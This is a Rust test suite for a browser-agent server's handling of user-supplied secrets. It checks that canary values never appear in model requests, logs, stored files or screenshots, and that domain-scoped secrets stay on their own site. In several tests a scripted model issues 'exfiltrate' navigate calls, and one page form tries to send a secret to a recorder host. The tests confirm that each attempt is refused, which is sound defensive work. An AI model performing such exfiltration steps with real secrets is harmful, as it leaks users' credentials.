//! `sensitive_data` stays where it belongs, end to end: canaries (plain, with spaces and
//! `/&=`, non-ASCII) typed by the browser agent into real Chromium are looked for — as written
//! and in every encoding a URL, a form, JSON or HTML gives them — in every LLM request, event,
//! API answer, log line (the server as a child process at `AGENTD_LOG=trace`) and byte of the
//! data directory; a secret put into a URL for another host, typed on a site it is not for, or
//! sent by a page's form to another host is refused; screenshots show no typed secret; the
//! domain-scoped form is parsed and checked.

use std::collections::HashMap;
use std::path::Path;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use agentd_testllm::{Recorded, Reply, ScriptedLlm};
use axum::extract::Query;
use axum::response::Html;
use base64::Engine;
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncReadExt};

use crate::support::{ADMIN_KEY, TestApp, call, done, error_of, http_client, index_of, reasoned, spawn_agents, spawn_app};

const PLAIN: &str = "canary-plain-5d2e8b";
const SPACED: &str = "tok CANARY/x&y=1";
const ACCENTED: &str = "Zürich päss/&=1 ✓";

/// Every spelling of the canaries the tests look for, written out here rather than taken from
/// the code under test: as typed, percent-encoded (a form's `+`, `%20`, either case), JSON
/// (`\u` escapes), HTML, and telling fragments of each.
const SPELLINGS: [&str; 23] = [
    PLAIN,
    "5d2e8b",
    SPACED,
    "CANARY/x",
    "tok+CANARY%2Fx%26y%3D1",
    "tok%20CANARY%2Fx%26y%3D1",
    "tok+CANARY%2fx%26y%3d1",
    "tok%20CANARY/x&y=1",
    "CANARY%2F",
    "CANARY%2f",
    "CANARY/x&amp;y",
    ACCENTED,
    "Zürich päss",
    "Z%C3%BCrich",
    "Z%c3%bcrich",
    "p%C3%A4ss",
    r"Z\u00fcrich",
    r"Z\u00FCrich",
    "Z&#252;rich",
    "Z&uuml;rich",
    "Zürich päss/&amp;=1",
    "Z%C3%BCrich+p%C3%A4ss%2F%26%3D1+%E2%9C%93",
    "Z%C3%BCrich%20p%C3%A4ss/&=1%20%E2%9C%93",
];

/// The first spelling of a canary in `text`, if any.
fn leak(text: &str) -> Option<&'static str> {
    SPELLINGS.iter().copied().find(|s| text.contains(s))
}

fn leak_in_bytes(bytes: &[u8]) -> Option<&'static str> {
    SPELLINGS.iter().copied().find(|s| bytes.windows(s.len()).any(|w| w == s.as_bytes()))
}

fn html(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// JSON with every non-ASCII character as a `\u` escape (as Python and many servers write it).
fn ascii_json(text: &str) -> String {
    serde_json::to_string(text).unwrap().chars().map(|c| if c.is_ascii() { c.to_string() } else { format!("\\u{:04x}", c as u32) }).collect()
}

/// Every byte lower-case percent-encoded but letters and digits.
fn lower_percent(text: &str) -> String {
    text.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02x}") }).collect()
}

/// A website of the tests on loopback: `/form` sends three fields by GET to `/echo`, which shows
/// them back as text, in a field, in a link (lower-case escapes) and as ASCII-only JSON — the
/// forms a page gives a secret. `/plain` is a field and a button, for screenshots.
async fn site() -> String {
    let form = r#"<!doctype html><title>Form</title>
<form action="/echo" method="get">
  <input name="a" aria-label="Plain field"><input name="b" aria-label="Spaced field"><input name="c" aria-label="Accented field">
  <input type="submit" value="Send">
</form>"#;
    let plain = r#"<!doctype html><title>Plain</title><body style="margin:0;font:16px sans-serif">
<input aria-label="Card holder" style="position:absolute;left:20px;top:20px;width:420px;height:32px;font:18px monospace">
<button style="position:absolute;left:20px;top:80px">Nothing here</button></body>"#;
    let echo = |Query(q): Query<HashMap<String, String>>| async move {
        let get = |k: &str| q.get(k).cloned().unwrap_or_default();
        let (a, b, c) = (get("a"), get("b"), get("c"));
        Html(format!(
            r#"<!doctype html><title>Echo</title>
<p>You sent {} and {} and {}</p>
<input aria-label="Echo field" value="{}">
<a href="/next?c={}">Next page</a>
<pre>{{"c": {}}}</pre>"#,
            html(&a),
            html(&b),
            html(&c),
            html(&c),
            lower_percent(&c),
            ascii_json(&c)
        ))
    };
    // A form that sends its field to `to` (another host), by `method`.
    let away = |Query(q): Query<HashMap<String, String>>| async move {
        let (to, method) = (q.get("to").cloned().unwrap_or_default(), q.get("method").cloned().unwrap_or_default());
        Html(format!(
            r#"<!doctype html><title>Away</title>
<form action="{}" method="{}"><input name="a" aria-label="Plain field"><input type="submit" value="Send"></form>"#,
            html(&to),
            html(&method)
        ))
    };
    let app = axum::Router::new()
        .route("/form", axum::routing::get(move || async move { Html(form) }))
        .route("/away", axum::routing::get(away))
        .route("/plain", axum::routing::get(move || async move { Html(plain) }))
        .route("/echo", axum::routing::get(echo));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}/")
}

/// A server that records every request it gets (where a leaked secret would go).
async fn recorder() -> (u16, Arc<Mutex<Vec<String>>>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let sink = seen.clone();
    let app = axum::Router::new().fallback(move |method: axum::http::Method, uri: axum::http::Uri, body: String| {
        let sink = sink.clone();
        async move {
            sink.lock().unwrap().push(format!("{method} {uri} {body}"));
            "ok"
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, app).await });
    (port, seen)
}

/// `agentd serve` as a child process (the product's own logging, at `AGENTD_LOG=trace`), its
/// LLM the scripted one; stderr kept as it comes.
struct Served {
    child: tokio::process::Child,
    app: TestApp,
    stderr: Arc<Mutex<Vec<u8>>>,
    dir: tempfile::TempDir,
}

async fn serve_child(llm: &ScriptedLlm) -> Served {
    let dir = tempfile::tempdir().unwrap();
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_agentd"));
    command.args(["serve", "--addr", "127.0.0.1:0"]);
    for (name, _) in std::env::vars() {
        if (name.starts_with("AGENTD_") && name != "AGENTD_CHROME") || name.starts_with("OPENAI_") || name.starts_with("ANTHROPIC_") {
            command.env_remove(name);
        }
    }
    command
        .env("AGENTD_DATA_DIR", dir.path())
        .env("AGENTD_LOG", "trace")
        .env("AGENTD_ADMIN_KEY", ADMIN_KEY)
        .env("AGENTD_ALLOW_PRIVATE_NETWORKS", "true")
        .env("AGENTD_LLM_BASE_URL", llm.openai_base_url())
        .env("AGENTD_LLM_API_KEY", "sk-test-key")
        .env("AGENTD_LLM_MODEL", "scripted-model")
        .env("AGENTD_BROWSER_WARM_CONTEXTS", "0")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    let mut child = command.spawn().expect("the agentd binary starts");
    let stderr = Arc::new(Mutex::new(Vec::new()));
    let mut err = child.stderr.take().unwrap();
    let sink = stderr.clone();
    tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        while let Ok(n) = err.read(&mut buf).await {
            if n == 0 {
                break;
            }
            sink.lock().unwrap().extend_from_slice(&buf[..n]);
        }
    });
    let mut lines = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let base = tokio::time::timeout(Duration::from_secs(60), async {
        while let Some(line) = lines.next_line().await.unwrap() {
            if let Some(base) = line.split("listening on ").nth(1) {
                return base.trim().to_owned();
            }
        }
        panic!("the server ended before listening");
    })
    .await
    .expect("the server listens");
    tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
    let app = TestApp { base, key: ADMIN_KEY.into(), http: http_client(), server: None, clock: Default::default(), dir: None };
    Served { child, app, stderr, dir }
}

/// Every file under `dir`, with its bytes.
fn files_under(dir: &Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(files_under(&path));
        } else {
            out.push((path.clone(), std::fs::read(&path).unwrap_or_default()));
        }
    }
    out
}

/// A JSON answer with its screenshots (base64 images) taken out.
fn without_images(mut value: Value) -> Value {
    match &mut value {
        Value::Object(map) => {
            map.retain(|k, _| !k.contains("screenshot"));
            for item in map.values_mut() {
                *item = without_images(item.take());
            }
        }
        Value::Array(items) => {
            for item in items.iter_mut() {
                *item = without_images(item.take());
            }
        }
        _ => {}
    }
    value
}

/// The page-state line of the element labelled `label`.
fn line_of(request: &Recorded, label: &str) -> String {
    request.text().lines().find(|l| l.trim_start().starts_with('[') && l.contains(label)).unwrap_or_default().to_owned()
}

#[tokio::test]
async fn canaries_never_leave_their_pages() {
    let llm = ScriptedLlm::start().await;
    let site = site().await;
    let (sink_port, sunk) = recorder().await;
    let served = serve_child(&llm).await;
    let app = &served.app;

    // One step fills the three fields and sends the form by GET (the values go into its URL).
    llm.push_with(|r| {
        assert_eq!(leak(&r.raw()), None, "the first request");
        reasoned(
            "fill in the form",
            vec![
                call("type", json!({"index": index_of(r, "Plain field"), "text": "<secret>plain</secret>"})),
                call("type", json!({"index": index_of(r, "Spaced field"), "text": "<secret>spaced</secret>"})),
                call("type", json!({"index": index_of(r, "Accented field"), "text": "<secret>accented</secret>"})),
                call("click", json!({"index": index_of(r, "\"Send\"")})),
            ],
        )
    });
    // The echo page shows them in every form; the model reads placeholders and tries to send
    // one to another server in a URL.
    let sink = format!("http://127.0.0.1:{sink_port}/sink?c=<secret>plain</secret>");
    llm.push_with(move |r| {
        let text = r.text();
        assert!(text.contains("a=<secret>plain</secret>&b=<secret>spaced</secret>&c=<secret>accented</secret>"), "the URL, redacted: {text}");
        assert!(text.contains("You sent <secret>plain</secret> and <secret>spaced</secret> and <secret>accented</secret>"), "{text}");
        assert!(text.contains("/next?c=<secret>accented</secret>"), "the link with lower-case escapes: {text}");
        assert!(text.contains(r#"{"c": "<secret>accented</secret>"}"#), "ASCII-only JSON: {text}");
        assert!(line_of(r, "Echo field").contains("<secret>accented</secret>"), "{text}");
        reasoned("exfiltrate", vec![call("navigate", json!({"url": sink}))])
    });
    // The domain-scoped secret, to a host it is not for.
    let elsewhere = format!("http://localhost:{sink_port}/sink?c=<secret>accented</secret>");
    llm.push_with(move |r| {
        let text = r.text();
        assert!(text.contains("<secret>plain</secret> may be typed into pages but never put into a URL"), "{text}");
        reasoned("try the other", vec![call("navigate", json!({"url": elsewhere}))])
    });
    llm.push_with(|r| {
        let text = r.text();
        assert!(text.contains("<secret>accented</secret> is only for http://127.0.0.1, not for localhost"), "{text}");
        done("sent the form")
    });
    let body = json!({
        "goal": "Fill in the form with my details and send it",
        "start_url": format!("{site}form"),
        "sensitive_data": {"plain": PLAIN, "spaced": SPACED, "http://127.0.0.1": {"accented": ACCENTED}},
    });
    let id = app.create_with(body).await["id"].as_str().unwrap().to_owned();
    let session = app.finish(&id).await;
    assert_eq!(session["status"], "completed", "{session}");
    assert_eq!(session["secret_names"], json!(["accented", "plain", "spaced"]));

    assert!(sunk.lock().unwrap().is_empty(), "a request reached the recorder: {:?}", sunk.lock().unwrap());
    let requests = llm.requests();
    assert_eq!(requests.len(), 4);
    for (i, request) in requests.iter().enumerate() {
        assert_eq!(leak(&request.raw()), None, "LLM request {i}: {}", request.raw());
    }
    let events = app.events(&id).await;
    assert_eq!(leak(&serde_json::to_string(&events).unwrap()), None, "{events:#?}");
    let refused: Vec<&Value> = events.iter().filter(|e| e["type"] == "action" && e["data"]["ok"] == false).collect();
    assert_eq!(refused.len(), 2, "{events:#?}");
    assert!(refused.iter().all(|e| e["data"]["error"].as_str().unwrap().starts_with("refused: ")), "{refused:#?}");
    // The answers of the native and the Computer Use Agent APIs.
    for path in [
        format!("/v1/sessions/{id}"),
        format!("/v1/sessions/{id}/events?limit=1000"),
        format!("/api/sessions/{id}/details"),
        format!("/api/sessions/{id}/replay"),
    ] {
        let answer: Value = app.get(&path).await.json().await.unwrap();
        assert_eq!(leak(&without_images(answer.clone()).to_string()), None, "{path}: {answer}");
    }
    let details: Value = app.get(&format!("/api/sessions/{id}/details")).await.json().await.unwrap();
    assert!(details["data"]["latest_screenshot"].as_str().is_some_and(|s| s.len() > 100), "a screenshot was kept");
    let task = details["data"]["session"]["task_id"].as_str().expect("a task id").to_owned();
    let status: Value = app.get(&format!("/api/status/{id}/{task}")).await.json().await.unwrap();
    assert_eq!(leak(&without_images(status.clone()).to_string()), None, "{status}");
    assert!(status["data"]["logs"].as_array().is_some_and(|l| !l.is_empty()), "{status}");

    // The log at trace: plenty of it, none of the browser's traffic, no canary.
    let logged = String::from_utf8_lossy(&served.stderr.lock().unwrap()).into_owned();
    assert!(logged.contains("TRACE"), "the server logged at trace");
    assert!(!logged.contains("chromiumoxide::conn"), "CDP traffic was logged");
    assert!(!logged.contains("Input.insertText") && !logged.contains("tungstenite::protocol"), "CDP traffic was logged");
    if let Some(spelling) = leak(&logged) {
        let line = logged.lines().find(|l| l.contains(spelling)).unwrap_or_default();
        panic!("the log holds `{spelling}`: {line}");
    }
    // The data directory: the database, its WAL, everything else.
    for (path, bytes) in files_under(served.dir.path()) {
        assert_eq!(leak_in_bytes(&bytes), None, "{} holds a canary", path.display());
    }
    drop(served.child);
}

#[tokio::test]
async fn a_secret_is_typed_only_on_its_own_site() {
    const CANARY: &str = "canary-scoped-91c4";
    let llm = ScriptedLlm::start().await;
    let site = agentd_testsite::serve().await;
    let other = site.replace("127.0.0.1", "localhost");
    let app = spawn_agents(&llm.openai_base_url(), |_| {}).await;
    llm.push_with(|r| reasoned("type it", vec![call("type", json!({"index": index_of(r, "Your message"), "text": "<secret>pw</secret>"}))]));
    let go = format!("{other}form");
    llm.push_with(move |r| {
        let text = r.text();
        assert!(text.contains("<secret>pw</secret> is only for http://localhost, not for 127.0.0.1"), "{text}");
        assert!(!line_of(r, "Your message").contains("<secret>"), "nothing was typed: {}", line_of(r, "Your message"));
        reasoned("go to its site", vec![call("navigate", json!({"url": go}))])
    });
    llm.push_with(|r| reasoned("type it there", vec![call("type", json!({"index": index_of(r, "Your message"), "text": "<secret>pw</secret>"}))]));
    llm.push_with(|r| {
        assert!(line_of(r, "Your message").contains("<secret>pw</secret>"), "typed on its site: {}", r.text());
        done("typed")
    });
    let body = json!({"goal": "Leave the note", "start_url": format!("{site}form"), "sensitive_data": {"http://localhost": {"pw": CANARY}}});
    let id = app.create_with(body).await["id"].as_str().unwrap().to_owned();
    let session = app.finish(&id).await;
    assert_eq!(session["status"], "completed", "{session}");
    let typed: Vec<Value> = app.events_of(&id, "action").await.into_iter().filter(|a| a["name"] == "type").collect();
    assert_eq!(typed.len(), 2, "{typed:?}");
    assert_eq!(typed[0]["ok"], false, "{typed:?}");
    assert!(typed[0]["error"].as_str().unwrap().contains("127.0.0.1"), "{typed:?}");
    assert_eq!(typed[1]["ok"], true, "{typed:?}");
    let everything = serde_json::to_string(&app.events(&id).await).unwrap() + &session.to_string();
    assert!(!everything.contains(CANARY));
    assert!(llm.requests().iter().all(|r| !r.raw().contains(CANARY)));
}

#[tokio::test]
async fn a_form_never_carries_a_secret_to_another_host() {
    let llm = ScriptedLlm::start().await;
    let site = site().await;
    let (sink_port, sunk) = recorder().await;
    let app = spawn_agents(&llm.openai_base_url(), |_| {}).await;
    for method in ["get", "post"] {
        // Typed on this site (127.0.0.1), sent by the page's form to another host (localhost).
        llm.push_with(|r| {
            reasoned(
                "fill in and send",
                vec![
                    call("type", json!({"index": index_of(r, "Plain field"), "text": "<secret>plain</secret>"})),
                    call("click", json!({"index": index_of(r, "\"Send\"")})),
                ],
            )
        });
        llm.push_with(|r| {
            let text = r.text();
            assert!(
                text.contains("The browser blocked a request: refused: a request to localhost would carry <secret>plain</secret>, which is not for that site"),
                "{text}"
            );
            done("blocked")
        });
        let to = format!("http://localhost:{sink_port}/sink");
        let start = format!("{site}away?method={method}&to={}", lower_percent(&to));
        let body = json!({"goal": "Send the form", "start_url": start, "sensitive_data": {"plain": PLAIN}});
        let id = app.create_with(body).await["id"].as_str().unwrap().to_owned();
        let session = app.finish(&id).await;
        assert_eq!(session["status"], "completed", "{method}: {session}");
        let logs = app.events_of(&id, "log").await;
        assert!(logs.iter().any(|l| l["code"] == "egress_refused" && l["message"].as_str().unwrap().contains("<secret>plain</secret>")), "{logs:?}");
        let everything = serde_json::to_string(&app.events(&id).await).unwrap();
        assert_eq!(leak(&everything), None, "{everything}");
    }
    // The refusal page stands at the refused URL, so the browser may ask that host for its icon;
    // nothing else reaches it.
    let reached = sunk.lock().unwrap().clone();
    assert!(reached.iter().all(|r| r.starts_with("GET /favicon.ico ")), "the form reached the other host: {reached:?}");
    assert!(reached.iter().all(|r| leak(r).is_none()), "{reached:?}");
    for request in llm.requests() {
        assert_eq!(leak(&request.raw()), None, "{}", request.raw());
    }
}

/// The kept screenshot of a finished session (what `/api` and the live page serve).
async fn kept_screenshot(app: &TestApp, id: &str) -> Vec<u8> {
    let details: Value = app.get(&format!("/api/sessions/{id}/details")).await.json().await.unwrap();
    let png = details["data"]["latest_screenshot"].as_str().unwrap_or_else(|| panic!("no screenshot: {details}"));
    base64::engine::general_purpose::STANDARD.decode(png).unwrap()
}

#[tokio::test]
async fn screenshots_show_no_typed_secret() {
    let llm = ScriptedLlm::start().await;
    let site = site().await;
    let app = spawn_agents(&llm.openai_base_url(), |_| {}).await;
    // Types `text` into the field, then moves the focus away (no caret in the picture).
    let session = async |text: &str, secrets: Value| {
        let text = text.to_owned();
        llm.push_with(move |r| reasoned("type", vec![call("type", json!({"index": index_of(r, "Card holder"), "text": text}))]));
        llm.push_with(|r| reasoned("look", vec![call("click", json!({"index": index_of(r, "Nothing here")}))]));
        llm.push(done("typed"));
        let mut body = json!({"goal": "Fill in the card holder", "start_url": format!("{site}plain")});
        if !secrets.is_null() {
            body["sensitive_data"] = secrets;
        }
        let id = app.create_with(body).await["id"].as_str().unwrap().to_owned();
        assert_eq!(app.finish(&id).await["status"], "completed");
        kept_screenshot(&app, &id).await
    };
    let first = session("<secret>holder</secret>", json!({"holder": "Zürich päss/&=1 ✓ one"})).await;
    let second = session("<secret>holder</secret>", json!({"holder": "Genève mdps/&=2 ✓ two"})).await;
    let shown = session("Zürich päss/&=1 ✓ one", Value::Null).await;
    assert_eq!(first, second, "two secrets of the same length look the same");
    assert_ne!(first, shown, "the same text typed as plain text shows");
}

#[tokio::test]
async fn the_computer_use_model_sees_no_typed_secret() {
    let llm = ScriptedLlm::start().await;
    let site = agentd_testsite::serve().await;
    let app = spawn_agents(&llm.openai_base_url(), |_| {}).await;
    let computer = |action: Value| ("computer".to_owned(), action);
    // Click the name field, type and send: the page says "Hello, <name>" where the model sees it.
    let screenshot_after = async |text: &str, secrets: Value| {
        llm.push(Reply::ToolCalls(vec![computer(json!({"type": "click", "button": "left", "x": 150, "y": 115}))]));
        llm.push(Reply::ToolCalls(vec![computer(json!({"type": "type", "text": format!("{text}\n")}))]));
        llm.push(Reply::Text("done".into()));
        let mut body = json!({"goal": "Greet me on the desk page", "start_url": format!("{site}desk"), "driver": "computer_use"});
        if !secrets.is_null() {
            body["sensitive_data"] = secrets;
        }
        let before = llm.requests().len();
        let id = app.create_with(body).await["id"].as_str().unwrap().to_owned();
        let session = app.finish(&id).await;
        assert_eq!(session["status"], "completed", "{session}");
        let requests = llm.requests();
        let last = &requests[before + 2];
        let output = last.body["input"].as_array().unwrap().iter().find(|i| i["type"] == "computer_call_output").cloned().unwrap();
        assert!(output["output"]["current_url"].as_str().unwrap().contains("name="), "{output}");
        output["output"]["image_url"].as_str().unwrap().to_owned()
    };
    let first = screenshot_after("<secret>who</secret>", json!({"who": "Zürich päss ✓"})).await;
    let second = screenshot_after("<secret>who</secret>", json!({"who": "Genève mdps ✓"})).await;
    let shown = screenshot_after("Zürich päss ✓", Value::Null).await;
    assert_eq!(first, second, "the greeting shows no secret");
    assert_ne!(first, shown, "the same name typed as plain text shows");
}

#[tokio::test]
async fn the_domain_scoped_form_is_parsed_and_checked() {
    let app = spawn_app().await;
    let ok = app
        .create_with(json!({
            "goal": "done:x",
            "sensitive_data": {
                "https://*.example.com": {"user": "value-u1", "pw": "value-p1"},
                "http*://login.example.org:8443": {"pw": "value-p2"},
                "example.net": {"pw": "value-p3"},
                "note": "value-n1",
            },
        }))
        .await;
    assert_eq!(ok["secret_names"], json!(["note", "pw", "user"]));
    assert!(!ok.to_string().contains("value-"), "{ok}");

    let scoped = |pattern: &str, secrets: Value| json!({"goal": "x", "sensitive_data": {pattern: secrets}});
    let cases = [
        (scoped("ftp://example.com", json!({"pw": "v"})), r#"sensitive_data["ftp://example.com"]"#, "scheme"),
        (scoped("https://*", json!({"pw": "v"})), r#"sensitive_data["https://*"]"#, "name the site"),
        (scoped("*google.com", json!({"pw": "v"})), r#"sensitive_data["*google.com"]"#, "wildcard"),
        (scoped("example.*", json!({"pw": "v"})), r#"sensitive_data["example.*"]"#, "wildcard"),
        (scoped("https://example.com/login", json!({"pw": "v"})), r#"sensitive_data["https://example.com/login"]"#, "path"),
        (scoped("https://example.com", json!({})), r#"sensitive_data["https://example.com"]"#, "at least one"),
        (scoped("https://*.example.com", json!({"bad name": "v"})), r#"sensitive_data["https://*.example.com"]"#, "secret names"),
        (scoped("https://*.example.com", json!({"pin": 1234})), r#"sensitive_data["https://*.example.com"].pin"#, "string"),
        (scoped("https://*.example.com", json!({"pin": "x".repeat(4097)})), r#"sensitive_data["https://*.example.com"].pin"#, "4096"),
        (scoped("https://*.example.com", json!({"pin": ""})), r#"sensitive_data["https://*.example.com"].pin"#, "4096"),
        (json!({"goal": "x", "sensitive_data": {"pin": ["1234"]}}), "sensitive_data.pin", "string"),
        (json!({"goal": "x", "sensitive_data": {"n".repeat(65): "v"}}), "sensitive_data", "64"),
    ];
    for (body, field, says) in cases {
        let (status, error) = error_of(app.post("/v1/sessions", body.clone()).await).await;
        assert_eq!((status, error["field"].as_str()), (400, Some(field)), "{body}: {error}");
        let message = error["message"].as_str().unwrap();
        assert!(message.contains(says), "{field}: {message}");
        assert!(!message.contains("1234") && !message.contains("xxxxxxxx"), "{message}");
    }
    assert_eq!(app.post("/v1/sessions", json!({"goal": "done:x", "sensitive_data": {"n".repeat(64): "v"}})).await.status(), 201);
    assert_eq!(app.post("/v1/sessions", json!({"goal": "done:x", "sensitive_data": {"https://a.example": {"pin": "x".repeat(4096)}}})).await.status(), 201);

    // At most 50 secrets, counting every domain's: 20 + 20 + 10 is fine, one more is not.
    let secrets = |n: usize, prefix: &str| Value::Object((0..n).map(|i| (format!("{prefix}{i}"), json!("v"))).collect());
    let mut fifty = json!({"https://a.example": secrets(20, "a"), "https://b.example": secrets(20, "b")});
    fifty.as_object_mut().unwrap().extend(secrets(10, "flat").as_object().unwrap().clone());
    assert_eq!(app.post("/v1/sessions", json!({"goal": "done:x", "sensitive_data": fifty.clone()})).await.status(), 201);
    fifty["https://b.example"]["b20"] = json!("v");
    let (status, error) = error_of(app.post("/v1/sessions", json!({"goal": "x", "sensitive_data": fifty})).await).await;
    assert_eq!((status, error["field"].as_str()), (400, Some("sensitive_data")), "{error}");
    assert!(error["message"].as_str().unwrap().contains("50"), "{error}");
}
